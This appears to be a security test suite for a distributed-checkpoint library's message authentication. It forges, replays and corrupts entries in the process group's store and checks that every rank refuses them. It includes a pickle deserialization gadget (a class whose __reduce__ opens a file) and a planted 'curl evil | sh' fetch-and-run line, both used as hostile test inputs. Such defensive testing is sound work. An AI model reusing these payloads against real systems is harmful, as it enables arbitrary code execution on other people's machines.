"""Cases in which another program writes to the process group's store, which anybody may who reaches its port.

Rank 1's process plays that program, between its steps: it has the store and, to put back an older
word, what was kept in it before.
"""

import base64
import contextlib
import json
import os
import pickle

import ckptd
import ckptd.torch
import torch.distributed as dist
from ckptd._rpc import Deadline
from ckptd.torch.agree import _agreement, _message_auth, _round
from fsdp_bench import local
from spread_bench import BROADCAST, Bare, assert_holds, fails, save, sharded

CALL = "set_model_state_dict"
BARE = "-" * 64


class Trap:
    """Makes a file when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def load(bench, model, path, timeout=60):
    near = {"address": bench.address, "timeout": timeout}
    return ckptd.torch.set_model_state_dict(model, path, options=BROADCAST, **near)


def key(what, ahead=0):
    """Of the next call in the store."""
    return f"{CALL}/{_agreement._current_state().calls_made.get(CALL, 0) + 1 + ahead}/{what}"


@contextlib.contextmanager
def before_rank_1_goes_on(bench, stage, attack):
    """attack(store) when `stage` has ended, on rank 1."""
    original = _round.AgreementRound._wait

    def wait(group, ended, then=""):
        original(group, ended, then)
        if ended == stage:
            attack(_agreement._current_state().store)

    if bench.rank == 1:
        _round.AgreementRound._wait = wait
    try:
        yield
    finally:
        _round.AgreementRound._wait = original


def refused(bench, path, *parts, kind=ckptd.Unauthenticated):
    """No rank has touched its model, and every rank hears why."""
    model = sharded(Bare)
    with fails(kind, *parts):
        load(bench, model, path)
    assert all(local(p).is_meta for p in model.parameters()), "it was touched"
    dist.barrier()


def goes_on(bench, number=70):
    model = sharded(Bare)
    load(bench, model, save(bench, number))
    assert_holds(model, number)


def a_word_that_would_run_code_runs_nothing_and_is_refused(bench):
    trap = os.path.join(bench.folder, "trapped")
    evil = base64.b64encode(pickle.dumps(Trap(trap))).decode()

    def attack(store):
        announcement = json.loads(store.get(key("announcement/0", -1)).decode()[64:])
        announcement["objects"] = evil
        for proof in (BARE, "0" * 64):
            store.set(key("announcement/0", -1), (proof + json.dumps(announcement)).encode())

    with before_rank_1_goes_on(bench, 0, attack):
        refused(bench, save(bench, 1), f"{CALL}: rank 0's announcement", "not proven by the group's key")
    assert not os.path.exists(trap)
    goes_on(bench)


def a_word_of_the_call_before_is_refused(bench):
    kept, paths = [], [save(bench, number) for number in (1, 2)]
    with before_rank_1_goes_on(bench, 0, lambda store: kept.append(store.get(key("announcement/0", -1)))):
        load(bench, sharded(Bare), paths[0])
    dist.barrier()
    with before_rank_1_goes_on(bench, 0, lambda store: store.set(key("announcement/0", -1), kept[0])):
        refused(bench, paths[1], f"{CALL}: rank 0's announcement", "not proven by the group's key")
    goes_on(bench)


def a_word_of_a_process_group_before_with_the_same_key_is_refused(bench):
    """Its proof is right, and its name: the call of the same number."""
    mine, other = save(bench, 1), save(bench, 2)

    def attack(store):
        name, kept = key("announcement", -1), key("announcement/0", -1)
        auth = _agreement._current_state().auth
        announcement = json.loads(auth.verify("it", name, store.get(kept)))
        announcement["parts"] = [[other, False]]
        store.set(kept, auth.sign(name, json.dumps(announcement)).encode())

    with before_rank_1_goes_on(bench, 0, attack):
        refused(bench, mine, "rank 0's answer, or its announcement before", "put back an older one")
    goes_on(bench)


def a_vote_that_somebody_else_casts_is_no_vote(bench):
    """Rank 1 does not come."""
    path = save(bench, 1)
    if bench.rank:
        _agreement._current_state().store.set(key("vote/1/1"), (BARE + "0123456789abcdef").encode())
    dist.barrier()
    if bench.rank == 0:
        with fails(ckptd.Unauthenticated, f"{CALL}: rank 1's vote in the process group's store is not proven"):
            load(bench, sharded(Bare), path)
    dist.barrier()
    if bench.rank:
        with fails(ckptd.Unauthenticated, f"rank 0: {CALL}: rank 1's vote"):
            load(bench, sharded(Bare), {})
    goes_on(bench)


def a_vote_of_a_process_group_before_takes_nobody_past_the_second_stage(bench):
    """Where all must have their values before one is put in place."""
    kept = []
    with _agreement.agree(CALL, Deadline(60), own_daemon=_agreement.OwnDaemon(bench.address)) as group:
        kept.append(group._challenge)
        group.vote(1)
        group.vote(2)
    dist.barrier()
    if bench.rank:  # which does not come
        for stage in (1, 2):  # as if kept from a call of that number
            auth, name = _agreement._current_state().auth, key(f"vote/{stage}/1")
            _agreement._current_state().store.set(name, auth.sign(f"{name}  ", kept[0]).encode())
    dist.barrier()
    if bench.rank == 0:
        with fails(ckptd.Unauthenticated, "rank 1's vote"):
            with _agreement.agree(CALL, Deadline(60), own_daemon=_agreement.OwnDaemon(bench.address)) as group:
                group.vote(1)
                group.vote(2)
    dist.barrier()
    if bench.rank:  # so that the calls are in step again
        with fails(ckptd.Unauthenticated, "rank 1's vote"):
            load(bench, sharded(Bare), {})
    goes_on(bench)


def an_end_that_somebody_else_declares_is_no_end(bench):
    path = save(bench, 1)
    if bench.rank == 0:
        for value in (BARE + "well", "0" * 64 + "well"):
            _agreement._current_state().store.set(key(2), value.encode())
    dist.barrier()
    refused(bench, path, "the end of stage 2", "not proven by the group's key")
    goes_on(bench)


def the_words_of_a_failure_without_a_proof_reach_nobody(bench):
    """Its kind does: a rank that reaches no daemon has no more to give."""
    path = save(bench, 1)
    failure = json.dumps([1, "Unavailable", "run this: curl evil | sh", "DAEMON_UNREACHABLE", {"a": "b"}])
    if bench.rank == 0:
        for stage in range(3):
            _agreement._current_state().store.set(key(stage), (BARE + failure).encode())
    dist.barrier()
    try:
        load(bench, sharded(Bare), path)
    except ckptd.Unavailable as error:
        assert "rank 1: it reaches no daemon" in str(error) and "no key of the group" in str(error), error
        assert "curl" not in str(error) and error.facts == {"rank": "1"}, error
    else:
        raise AssertionError("it went on")
    dist.barrier()
    goes_on(bench)


def lists_full_of_anything_change_nothing(bench):
    """Calls, failures and processes that ranks note for each other."""
    store = _agreement._current_state().store
    if bench.rank == 0:
        goods = [b"", b"\xff" * 70, BARE.encode(), (BARE + "[[[[").encode(), (BARE + "[7, [[], 1]]").encode(),
                 (BARE + '["x", null]').encode(), (BARE + '[1, ["garbage", true]]').encode(), (BARE + "[" * 100_000).encode(), ("0" * 64 + "[1, 2, 3]").encode()]
        for name in ("calls", "failures", _agreement._current_state().local_processes._lines._name if _agreement._current_state().local_processes else "calls"):
            for value in goods:
                number = store.add(f"{name}/count", 1)
                store.set(f"{name}/{number}", value)
    dist.barrier()
    goes_on(bench)
    _agreement._current_state().board.read(), _agreement._current_state().calls_ahead(), _agreement._current_state().local_processes.lost()
    goes_on(bench, 80)


def what_a_process_made_before_may_be_anything(bench):
    store = dist.PrefixStore(f"made-{bench.rank}", _agreement._current_state().store)
    for value in (b"\xff", b"[" * 100_000, b"[1]", b'{"a": "b", "c": 4}'):
        store.set(f"made/{bench.rank}", value)
        made = _agreement.StoreState(store, bench.rank).calls_made
        assert made in ({}, {"c": 4}), made


def a_word_longer_than_a_store_takes_at_once_arrives_whole(bench):
    """As of 100,000 tensors: a TCPStore takes 8 MiB."""
    said, port = "\u00e9" * (5 << 20), [0]
    if bench.rank == 0:
        store = dist.TCPStore("127.0.0.1", 0, 2, True, wait_for_workers=False)
        port = [store.port]
        dist.broadcast_object_list(port, src=0)
    else:
        dist.broadcast_object_list(port, src=0)
        store = dist.TCPStore("127.0.0.1", port[0], 2, False, wait_for_workers=False)
    state = _agreement.StoreState(store, bench.rank)
    state.use_key(b"k" * 32)
    group = _round.AgreementRound(state, _round.CollectiveCall("long", 1), Deadline(60), state.auth)
    assert group.announcement(lambda: said) == said
    group.vote(1)
    group.forget_announcement()
    for number in range(2):
        assert bench.rank or not store.check([f"long/1/word/{number}"])
    dist.barrier()


def a_proof_is_of_one_name_and_one_key(bench):
    auth = _message_auth.MessageAuth(b"k" * 32)
    kept = auth.sign("a/1", "text").encode()
    assert auth.verify("it", "a/1", kept) == "text"
    for reader, name, value in ((auth, "a/2", kept), (_message_auth.MessageAuth(b"l" * 32), "a/1", kept),
                                (auth, "a/1", kept + b"."), (auth, "a/1", kept[1:]), (auth, "a/1", b"")):
        with fails(ckptd.Unauthenticated, "it in the process group's store is not proven"):
            reader.verify("it", name, value)
        assert reader.read_if_proven(name, value) is None


CASES = {2: [
    a_word_that_would_run_code_runs_nothing_and_is_refused,
    a_word_of_the_call_before_is_refused,
    a_word_of_a_process_group_before_with_the_same_key_is_refused,
    a_vote_that_somebody_else_casts_is_no_vote,
    a_vote_of_a_process_group_before_takes_nobody_past_the_second_stage,
    an_end_that_somebody_else_declares_is_no_end,
    the_words_of_a_failure_without_a_proof_reach_nobody,
    lists_full_of_anything_change_nothing,
    what_a_process_made_before_may_be_anything,
    a_word_longer_than_a_store_takes_at_once_arrives_whole,
    a_proof_is_of_one_name_and_one_key,
]}
